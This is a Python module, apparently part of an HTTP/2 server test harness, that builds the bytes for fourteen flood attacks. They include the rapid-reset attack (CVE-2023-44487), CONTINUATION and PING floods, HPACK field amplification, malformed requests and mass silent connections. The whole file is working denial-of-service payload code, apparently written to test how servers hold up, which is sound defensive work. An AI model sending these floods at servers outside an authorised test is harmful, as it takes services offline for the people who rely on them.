"""Floods: what one client sends to make a server work, without asking for anything in earnest.

Each flood is bytes that are written over and over. For example, the first write of the flood of
requests that are taken back (CVE-2023-44487), after a connection's preface::

    preface, SETTINGS, HEADERS of stream 1     its fields are in HPACK's table from then on
    HEADERS, RST_STREAM of stream 3            26 bytes
    HEADERS, RST_STREAM of stream 5            and so on, 900 times

A client that is cut off comes back with its next write.
"""

from collections.abc import Callable, Iterator, Mapping, Sequence
from dataclasses import dataclass, field
from itertools import cycle, islice

from hpack.hpack import encode_integer

from harness.frames import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    HEADERS,
    PING,
    PREFACE,
    PRIORITY,
    RST,
    SETTINGS,
    UPDATE,
    block,
    frame,
)

__all__ = ["FLOODS", "Flood", "Requests"]

_CANCEL = (8).to_bytes(4)
_LARGEST_WINDOW, _ONE_MORE = (2**31 - 1).to_bytes(4), (1).to_bytes(4)
_UNKNOWN = 0xFA
#: What HTTP/2 lets a frame have at first (RFC 9113 § 6.5.2).
_LARGEST_PAYLOAD = 16_384
#: HPACK's index of the field that was added last (RFC 7541 § 2.3.3).
_NEWEST = 62
#: "aaaaaaaa" in HPACK's Huffman code, and how often it makes 60,000 characters.
_EIGHT, _EIGHTS = bytes.fromhex("18c6318c63"), 7_500
#: Fields of a header list that is just below 64 KiB, as RFC 9113 § 6.5.2 counts it.
_FIELDS = 1_850
_MALFORMED = (("key", "value "), ("te", "gzip"), ("connection", "close"), ("Key", "value"))

Fields = Sequence[tuple[str, str]]


@dataclass(frozen=True)
class Requests:
    """The header fields of two requests of a server: one without a body, and one with."""

    ask: Fields
    post: Fields


@dataclass(frozen=True)
class Flood:
    """One kind of flood, from one client."""

    name: str
    #: What a write has, in words.
    content: str
    #: Makes a write, given the number of its first stream.
    write: Callable[[Requests, int], bytes]
    #: Numbers of streams that a write uses up.
    streams: int = 0
    #: Seconds between two writes of a connection.
    interval: float = 0.1
    connections: int = 1
    #: Fields that the first request of a connection adds to HPACK's table, besides its own.
    extra: Fields = ()
    #: What connections begin with, in turns, instead of a preface, SETTINGS and a request.
    silences: Sequence[bytes] = field(default=())

    def opening(self, requests: Requests, number: int) -> bytes:
        """Return the first bytes of the connection with this number."""
        if self.silences:
            return self.silences[number % len(self.silences)]
        fields = b"".join(map(_added, (*requests.ask, *self.extra)))
        return PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, END_HEADERS, 1, fields)


def _added(name_and_value: tuple[str, str]) -> bytes:
    """Encode a field that both sides add to their table (RFC 7541 § 6.2.1)."""
    return b"\x40" + block(name_and_value)[1:]


def _known(count: int, skipped: int = 0) -> bytes:
    """Encode that many fields that the opening has added, the oldest first (RFC 7541 § 6.1)."""
    newest = _NEWEST + skipped
    return bytes(0x80 | index for index in range(newest + count - 1, newest - 1, -1))


def _request(number: int, fields: bytes) -> bytes:
    """Make a request whose body does not come; it takes several frames if it is large."""
    parts = [fields[at : at + _LARGEST_PAYLOAD] for at in range(0, len(fields), _LARGEST_PAYLOAD)]
    last = len(parts) - 1
    return b"".join(
        frame(CONTINUATION if at else HEADERS, END_HEADERS if at == last else 0, number, part)
        for at, part in enumerate(parts)
    )


def _numbers(first: int, count: int) -> range:
    return range(first, first + 2 * count, 2)


def _each(count: int, ends: Callable[[int], bytes]) -> Callable[[Requests, int], bytes]:
    """Write requests, each followed by what makes it end."""

    def write(requests: Requests, first: int) -> bytes:
        fields = _known(len(requests.ask))
        return b"".join(_request(n, fields) + ends(n) for n in _numbers(first, count))

    return write


def _frames(count: int, one: bytes) -> Callable[[Requests, int], bytes]:
    """Write the same frame over and over."""
    return lambda _requests, _first: one * count


def _body(count: int, data: bytes) -> Callable[[Requests, int], bytes]:
    """Write a request whose body comes in as many frames."""

    def write(requests: Requests, first: int) -> bytes:
        return _request(first, block(*requests.post)) + frame(DATA, 0, first, data) * count

    return write


def _priorities(_requests: Requests, _first: int) -> bytes:
    return b"".join(frame(PRIORITY, 0, n, b"\0\0\0\0\x10") for n in _numbers(3, 4_600))


def _continuations(requests: Requests, first: int) -> bytes:
    begun = frame(HEADERS, 0, first, block(*requests.ask))
    return begun + frame(CONTINUATION, 0, first) * 7_000


def _many_fields(requests: Requests, first: int) -> bytes:
    """Write as many requests as may be open, with fields of one byte each: the newest, repeated."""
    fields = _known(len(requests.ask), skipped=1) + _known(1) * _FIELDS
    return b"".join(_request(n, fields) for n in _numbers(first, 98))


def _large_field(requests: Requests, first: int) -> bytes:
    value = _EIGHT * _EIGHTS
    length = encode_integer(len(value), 7)
    length[0] |= 0x80  # in Huffman's code
    name = block(("grpc-encoding", ""))[:-1]
    return _request(first, block(*requests.ask) + name + bytes(length) + value)


def _malformed(requests: Requests, first: int) -> bytes:
    fields = _known(len(requests.ask))
    odd: Iterator[tuple[str, str]] = islice(cycle(_MALFORMED), 900)
    return b"".join(
        _request(n, fields + block(one)) for n, one in zip(_numbers(first, 900), odd, strict=True)
    )


#: By name, in the order of the table.
FLOODS: Mapping[str, Flood] = {
    flood.name: flood
    for flood in (
        Flood(
            "requests taken back",
            "900 x (HEADERS, RST_STREAM)",
            _each(900, lambda number: frame(RST, 0, number, _CANCEL)),
            streams=900,
            interval=1.0,
        ),
        Flood(
            "provoked resets",
            "900 x (HEADERS, WINDOW_UPDATE that overflows)",
            _each(900, lambda number: frame(UPDATE, 0, number, _LARGEST_WINDOW)),
            streams=900,
            interval=1.0,
        ),
        Flood("PING", "3,800 PING", _frames(3_800, frame(PING, 0, 0, b"a flood!"))),
        Flood("SETTINGS", "7,200 SETTINGS", _frames(7_200, frame(SETTINGS, 0, 0))),
        Flood("PRIORITY", "PRIORITY of 4,600 streams", _priorities),
        Flood("empty DATA", "HEADERS, 7,000 DATA of 0 bytes", _body(7_000, b""), streams=1),
        Flood("small DATA", "HEADERS, 6,500 DATA of 1 byte", _body(6_500, b"x"), streams=1),
        Flood(
            "WINDOW_UPDATE",
            "5,000 WINDOW_UPDATE of 1 byte",
            _frames(5_000, frame(UPDATE, 0, 0, _ONE_MORE)),
        ),
        Flood("unknown frames", "7,200 of type 0xFA", _frames(7_200, frame(_UNKNOWN, 0, 0))),
        Flood("CONTINUATION", "HEADERS, 7,000 CONTINUATION of 0 bytes", _continuations, streams=1),
        Flood(
            "many fields",
            "98 x HEADERS of 1,850 fields in a byte each",
            _many_fields,
            streams=98,
            interval=10.0,
            connections=20,
            extra=(("a", "b"),),
        ),
        Flood("large fields", "HEADERS of 60,000 characters", _large_field, streams=1),
        Flood(
            "malformed requests", "900 x malformed HEADERS", _malformed, streams=900, interval=1.0
        ),
        Flood(
            "silent connections",
            "nothing, half of a preface, or no SETTINGS",
            _frames(0, b""),
            interval=1.0,
            connections=1_500,
            silences=(b"", PREFACE[:12], PREFACE),
        ),
    )
}
